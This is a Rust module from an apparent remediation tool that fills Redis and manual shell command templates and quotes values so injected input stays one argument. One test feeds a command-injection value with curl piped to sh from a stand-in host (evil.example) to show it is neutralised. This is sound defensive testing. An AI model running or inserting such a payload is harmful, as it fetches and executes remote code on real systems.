//! A fix's command as a runbook writes it, kept as what it is from load to
//! send: for a Redis fix, one template per argument, split from the source
//! once at load time; for a manual fix, one shell line for the operator.
//! A placeholder fills exactly one argument and never adds one, whatever
//! the evidence holds (spaces, quotes, newlines).

use super::argv;
use super::template::Template;

#[derive(Debug, Clone, PartialEq)]
pub enum CommandTemplate {
    /// Arguments of a Redis command, each a template.
    Redis { source: String, args: Vec<Template> },
    /// A line for the operator's shell; shown, never run.
    Manual(Template),
}

/// A filled-in command.
#[derive(Debug, Clone, PartialEq)]
pub enum Command {
    Redis(Vec<String>),
    Manual(String),
}

impl CommandTemplate {
    /// Splits a Redis command's source into argument templates.
    pub fn redis(source: &str) -> Result<CommandTemplate, String> {
        let args = argv::split(source)?
            .iter()
            .map(|a| Template::parse(a))
            .collect::<Result<Vec<_>, _>>()?;
        Ok(CommandTemplate::Redis {
            source: source.to_string(),
            args,
        })
    }

    pub fn source(&self) -> &str {
        match self {
            CommandTemplate::Redis { source, .. } => source,
            CommandTemplate::Manual(t) => &t.source,
        }
    }

    pub fn fields(&self) -> Vec<&str> {
        match self {
            CommandTemplate::Redis { args, .. } => args.iter().flat_map(|a| a.fields()).collect(),
            CommandTemplate::Manual(t) => t.fields().collect(),
        }
    }

    /// Fills the command. `Err` names the first placeholder without a value:
    /// a command with a gap is not a command. A manual command's values are
    /// quoted for a POSIX shell, so a pasted line runs exactly one command
    /// with exactly those arguments, whatever the server put in them.
    pub fn fill(&self, lookup: impl Fn(&str) -> Option<String>) -> Result<Command, String> {
        let missing = |t: &Template| t.fields().find(|f| lookup(f).is_none()).map(str::to_string);
        Ok(match self {
            CommandTemplate::Redis { args, .. } => Command::Redis(
                args.iter()
                    .map(|t| match missing(t) {
                        Some(f) => Err(f),
                        None => Ok(t.render(&lookup)),
                    })
                    .collect::<Result<_, _>>()?,
            ),
            CommandTemplate::Manual(t) => match missing(t) {
                Some(f) => return Err(f),
                None => Command::Manual(t.render(|f| lookup(f).map(|v| shell_quote(&v)))),
            },
        })
    }
}

impl Command {
    /// The command as a person reads it: Redis arguments quoted the way
    /// redis-cli reads them back when they hold spaces, quotes or control
    /// characters.
    pub fn display(&self) -> String {
        match self {
            Command::Redis(args) => args.iter().map(|a| quote(a)).collect::<Vec<_>>().join(" "),
            Command::Manual(line) => line.clone(),
        }
    }
}

/// A value as one word for a POSIX shell: bare when it holds only
/// characters no shell treats specially, otherwise in single quotes (a `'`
/// inside becomes `'\''`).
pub fn shell_quote(value: &str) -> String {
    let plain = !value.is_empty()
        && value
            .chars()
            .all(|c| c.is_ascii_alphanumeric() || "_@%+=:,./-".contains(c));
    if plain {
        value.to_string()
    } else {
        format!("'{}'", value.replace('\'', "'\\''"))
    }
}

/// One argument as redis-cli would take it back: bare when plain,
/// otherwise double-quoted with `\"`, `\\`, `\n`, `\r`, `\t`, `\xNN`.
pub fn quote(arg: &str) -> String {
    let plain = !arg.is_empty()
        && arg
            .chars()
            .all(|c| c.is_ascii_graphic() && !matches!(c, '"' | '\'' | '\\'));
    if plain {
        return arg.to_string();
    }
    let mut out = String::from("\"");
    for c in arg.chars() {
        match c {
            '"' => out.push_str("\\\""),
            '\\' => out.push_str("\\\\"),
            '\n' => out.push_str("\\n"),
            '\r' => out.push_str("\\r"),
            '\t' => out.push_str("\\t"),
            c if c.is_control() => out.push_str(&format!("\\x{:02x}", c as u32)),
            c => out.push(c),
        }
    }
    out.push('"');
    out
}

#[cfg(test)]
mod tests {
    use super::*;

    fn lookup(name: &str) -> Option<String> {
        match name {
            "name" => Some("two words \"quoted\"\nline".into()),
            "n" => Some("5".into()),
            _ => None,
        }
    }

    #[test]
    fn a_placeholder_fills_one_argument() {
        let c = CommandTemplate::redis("SET probe:{n} {name}").unwrap();
        assert_eq!(
            c.fill(lookup).unwrap(),
            Command::Redis(vec![
                "SET".into(),
                "probe:5".into(),
                "two words \"quoted\"\nline".into()
            ])
        );
        assert_eq!(
            c.fill(lookup).unwrap().display(),
            r#"SET probe:5 "two words \"quoted\"\nline""#
        );
    }

    #[test]
    fn quoted_source_arguments_stay_one() {
        let c = CommandTemplate::redis("CONFIG SET save \"900 1\"").unwrap();
        assert_eq!(
            c.fill(lookup).unwrap(),
            Command::Redis(vec![
                "CONFIG".into(),
                "SET".into(),
                "save".into(),
                "900 1".into()
            ])
        );
    }

    #[test]
    fn manual_values_are_one_shell_word() {
        let c =
            CommandTemplate::Manual(Template::parse("redis-cli -h {host} -p {port} PING").unwrap());
        let lookup = |f: &str| {
            Some(match f {
                "host" => "10.0.0.1;curl${IFS}evil.example|sh;#".to_string(),
                _ => "6379".to_string(),
            })
        };
        assert_eq!(
            c.fill(lookup).unwrap().display(),
            "redis-cli -h '10.0.0.1;curl${IFS}evil.example|sh;#' -p 6379 PING"
        );
        assert_eq!(shell_quote("it's"), "'it'\\''s'");
        assert_eq!(shell_quote(""), "''");
        assert_eq!(
            shell_quote("cache-01.example:6379"),
            "cache-01.example:6379"
        );
    }

    #[test]
    fn a_missing_value_is_no_command() {
        let c = CommandTemplate::redis("CONFIG SET maxmemory {absent}").unwrap();
        assert_eq!(c.fill(lookup).unwrap_err(), "absent");
    }

    #[test]
    fn quoting_round_trips_through_the_splitter() {
        for arg in ["plain", "", "a b", "q\"x", "back\\slash", "it's"] {
            let shown = quote(arg);
            assert_eq!(
                argv::split(&format!("SET k {shown}")).unwrap()[2],
                arg,
                "{shown}"
            );
        }
    }
}
